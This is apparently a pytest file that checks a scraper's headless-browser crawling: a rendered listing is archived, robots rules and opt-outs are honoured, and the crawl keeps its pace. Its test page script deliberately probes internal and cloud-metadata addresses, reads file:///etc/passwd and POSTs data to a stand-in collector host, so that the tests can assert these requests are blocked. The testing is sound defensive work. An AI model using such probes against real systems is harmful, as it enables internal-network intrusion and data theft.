"""Pages drawn by script: without a browser a miss in words, with one the page as drawn, and no way past the guard."""

from __future__ import annotations

import importlib.util
import itertools
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest

from scrapers.archive.index import read_visits
from scrapers.archive.reading import read_response

from .loopback_web import Desk, Reply, Web, page, serve

pytestmark = pytest.mark.slow
HOST = "http://drawn.example.com"
LIST = """<!DOCTYPE html><html><head><title>News</title><link rel="stylesheet" href="/style.css">
<script src="/app.js"></script></head><body><ul id="list"></ul><img src="http://pictures.example.com/a.png">
<img src="/b.png"><script>window.onload = draw;</script></body></html>"""
SCRIPT = """
async function draw() {
  const quietly = (address, how) => fetch(address, how).catch(() => null);
  for (const bad of ['http://127.0.0.1:PORT/inward', 'http://10.0.0.1/', 'http://[::1]/', 'http://169.254.169.254/latest/',
                     'http://localhost/x', 'file:///etc/passwd', '/moved'])
    await quietly(bad);
  await quietly('http://other.example.com/collect', {method: 'POST', body: 'all I know'});
  for (const address of ['http://closed.example.com/x.json', 'http://gone.example.com/x.json', '/private/x.json',
                         'http://open.example.com/x.json'])
    await quietly(address);
  try { new WebSocket('ws://127.0.0.1:PORT/socket'); } catch (e) {}
  const rows = await (await fetch('/rows.json')).json();
  for (const row of rows) {
    const item = document.createElement('li');
    item.innerHTML = `<a href="/a/${row.id}">${row.title}</a> <time datetime="${row.at}"></time>`;
    document.getElementById('list').append(item);
  }
}
"""
ROWS = b'[{"id": 7, "title": "Drawn by script", "at": "2026-03-10T09:00:00+09:00"}]'


@pytest.fixture
def web() -> Iterator[Web]:
    with serve() as running:
        yield running


@pytest.fixture
def desk(tmp_path: Path, web: Web) -> Desk:
    desk = Desk(tmp_path, {"DESK_CRAWL_PROXY": web.proxy})
    desk.add_source(
        "drawn",
        feeds=[],
        needs_browser=True,
        listings=[{"url": f"{HOST}/news", "link_pattern": r"/a/\d+$", "row": "li"}],
    )
    port = web.proxy.rsplit(":", 1)[1]
    web.pages[f"{HOST}/news"] = Reply(LIST.encode())
    web.pages[f"{HOST}/app.js"] = Reply(
        SCRIPT.replace("PORT", port).encode(), headers=(("Content-Type", "text/javascript"),)
    )
    web.pages[f"{HOST}/rows.json"] = Reply(ROWS, headers=(("Content-Type", "application/json"),))
    web.pages[f"{HOST}/moved"] = Reply(b"", 302, (("Location", "http://10.0.0.1/"),))
    web.pages[f"{HOST}/a/7"] = Reply(page("Drawn by script"))
    web.pages[f"{HOST}/robots.txt"] = Reply(b"User-agent: *\nDisallow: /private/")
    web.pages["http://closed.example.com/robots.txt"] = Reply(b"User-agent: *\nDisallow: /")
    web.pages["http://open.example.com/x.json"] = Reply(
        b"{}", headers=(("Content-Type", "application/json"), ("Access-Control-Allow-Origin", "*"))
    )
    return desk


def test_without_a_browser_the_source_is_not_asked_and_says_why(web: Web, desk: Desk) -> None:
    desk.crawl(fetch=True)
    [capture] = desk.captures()
    assert (capture.outcome, capture.fault) == ("not_asked", "not_asked")
    assert "no browser is switched on (DESK_CRAWL_BROWSER)" in capture.detail
    assert web.asked == []


def test_a_browser_that_is_not_there_is_said(web: Web, desk: Desk) -> None:
    desk.environment |= {"DESK_CRAWL_BROWSER": "true", "DESK_CRAWL_BROWSER_PATH": "/nowhere/chromium"}
    desk.crawl(fetch=True)
    [capture] = desk.captures()
    assert capture.outcome == "not_asked"
    assert "browser" in capture.detail


@pytest.fixture
def chromium(desk: Desk) -> None:
    path = shutil.which("chromium") or shutil.which("chromium-browser")
    if path is None or importlib.util.find_spec("playwright") is None:
        pytest.skip("no Chromium here, or the extra browser is not installed")
    desk.environment |= {"DESK_CRAWL_BROWSER": "true", "DESK_CRAWL_BROWSER_PATH": path}


@pytest.mark.usefixtures("chromium")
def test_a_drawn_page_is_read_and_archived_and_nothing_escapes(web: Web, desk: Desk) -> None:
    # The proxy lies in a network that is open to pages, and is not theirs to ask all the same.
    desk.environment |= {"DESK_CRAWL_ALLOWED_NETWORKS": "127.0.0.0/8"}
    (desk.root / "opt_out.txt").write_text("gone.example.com\n", encoding="utf-8")
    desk.environment |= {"DESK_OPT_OUT": str(desk.root / "opt_out.txt")}
    desk.crawl(fetch=True)
    listing = desk.capture_of(f"{HOST}/news")
    assert (listing.outcome, listing.status, listing.detail) == ("fetched", 200, "")
    assert listing.warc_file is not None
    assert listing.warc_offset is not None
    archive = desk.home.absolute(listing.warc_file)
    stored = read_response(archive, listing.warc_offset)
    told = dict(stored.headers)["X-Desk-Rendered"]
    assert told.startswith("chromium ")
    assert b'<a href="/a/7">Drawn by script</a>' in stored.body
    article = desk.capture_of(f"{HOST}/a/7")
    assert (article.outcome, article.status) == ("fetched", 200)
    # Asked for: robots.txt and what the page is drawn from; no picture, no style, nothing inward, nothing forbidden.
    asked = sorted(address.replace(HOST, "") for address, _ in web.asked)
    assert asked == [
        "/a/7", "/app.js", "/moved", "/news", "/robots.txt", "/rows.json",
        "http://closed.example.com/robots.txt",
        "http://open.example.com/robots.txt", "http://open.example.com/x.json",
    ]  # fmt: skip
    assert not [address for address, headers in web.asked if "referer" in headers or "cookie" in headers]
    # Each exchange is in the archive, once.
    visits, faults = read_visits(archive)
    assert faults == []
    assert sorted(visit.url.replace(HOST, "") for visit in visits if visit.outcome == "fetched") == asked
    before = len(web.asked)
    desk.crawl(fetch=False)
    assert len(web.asked) == before


@pytest.mark.usefixtures("chromium")
def test_a_page_is_drawn_at_the_pace_of_its_host_which_is_not_blamed_for_the_drawing(
    web: Web, desk: Desk
) -> None:
    desk.environment["DESK_CRAWL_DELAY_SECONDS"] = "1"
    desk.crawl(fetch=True)
    assert desk.capture_of(f"{HOST}/news").detail == ""
    own = [(came, gone) for address, came, gone in web.when if address.startswith(HOST)]
    pauses = [later[0] - earlier[1] for earlier, later in itertools.pairwise(own)]
    assert len(own) >= 5
    assert min(pauses) > 0.9
    took = desk.capture_of(f"{HOST}/news").fetch_ms
    assert took is not None
    assert took < 1000  # the drawing waits for two scripts, and so for two pauses
